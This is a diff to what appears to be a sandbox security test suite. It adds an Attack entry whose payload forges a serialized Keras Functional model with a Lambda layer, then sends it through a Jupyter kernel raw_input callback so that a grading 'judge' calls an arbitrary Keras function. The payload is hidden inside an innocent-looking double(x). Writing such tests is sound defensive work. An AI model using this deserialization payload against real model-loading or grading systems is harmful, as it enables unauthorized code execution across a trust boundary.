@@ -1212,6 +1212,27 @@ MODELS = [
         waits=("double",),
         slow=True,
     ),
+    Attack(
+        "Keras' functions, called in the judge",
+        "have the judge call any public function of Keras, by a configuration in a forged call back",
+        "import json\n"
+        "function = {'module': 'keras.config', 'class_name': 'function', 'config': 'set_floatx',"
+        " 'registered_name': 'set_floatx'}\n"
+        "layer = {'module': 'keras.layers', 'class_name': 'Lambda', 'registered_name': None, 'name': 'l',"
+        " 'config': {'name': 'l', 'function': function, 'arguments': {}},"
+        " 'inbound_nodes': [{'args': [], 'kwargs': {'inputs': 'float16'}}]}\n"
+        "start = {'module': 'keras.layers', 'class_name': 'InputLayer', 'registered_name': None, 'name': 'i',"
+        " 'inbound_nodes': [], 'config': {'batch_shape': [None, 1], 'dtype': 'float32', 'name': 'i'}}\n"
+        "model = {'module': 'keras.src.models.functional', 'class_name': 'Functional',"
+        " 'registered_name': 'Functional', 'config': {'name': 'f', 'trainable': True,"
+        " 'layers': [start, layer], 'input_layers': [['i', 0, 0]], 'output_layers': [['i', 0, 0]]}}\n"
+        "gift = json.dumps([[{'!': 'keras', 'config': json.dumps(model), 'weights': [], 'trainable': []}],"
+        " {'!': 'dict', 'items': []}])\n"
+        "def double(x):\n"
+        "    get_ipython().kernel.raw_input(json.dumps({'callback': 0, 'arguments': gift}))\n"
+        "    return 2 * x",
+        slow=True,
+    ),
 ]
 
 ATTACKS: tuple[Attack, ...] = (
